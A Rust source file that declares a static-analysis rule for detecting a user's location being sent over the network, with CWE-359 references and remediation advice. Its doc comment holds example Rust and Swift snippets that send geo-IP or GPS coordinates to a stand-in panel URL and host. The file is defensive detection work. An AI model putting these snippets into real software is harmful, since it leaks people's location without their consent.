use crate::declare_rule;

declare_rule! {
    /// ## What it finds
    /// The user's location reaching a network sink: on Apple platforms
    /// `CLLocationManager` updates and `CLLocation.coordinate`; in Rust the Windows
    /// `Geolocator`, GeoClue, and geo-IP lookups (`ipinfo.io`, `ip-api.com`,
    /// `ipapi.co`) whose answer is then sent elsewhere.
    ///
    /// ## Why it matters
    /// Location reveals where people live, work and pray. It is the most regulated kind of
    /// personal data after health data, and the most valuable to data brokers. Malware
    /// geo-locates victims before choosing a payload.
    ///
    /// ## Example
    /// ```rust
    /// let geo = reqwest::get("http://ip-api.com/json").await?.text().await?;
    /// client.post(PANEL_URL).body(geo).send().await?;
    /// ```
    /// ```swift
    /// func locationManager(_ manager: CLLocationManager, didUpdateLocations locations: [CLLocation]) {
    ///     let c = locations.last!.coordinate
    ///     request.url = URL(string: "https://t.example.net/l?lat=\(c.latitude)&lon=\(c.longitude)")
    /// }
    /// ```
    ///
    /// ## Instead
    /// Use location on the device when possible. If it must be sent, ask for permission
    /// with a clear purpose, reduce precision, and check consent where it is sent.
    ///
    /// ## References
    /// - CWE-359: Exposure of Private Personal Information to an Unauthorized Actor
    /// - Apple: "Requesting authorization to use location services"
    pub static RULE = {
        id: "data-upload/location-to-network",
        summary: "The user's location is sent over the network",
        cwe: [359],
        severity: High,
        confidence: Medium,
        languages: [Rust, Swift],
    }
}
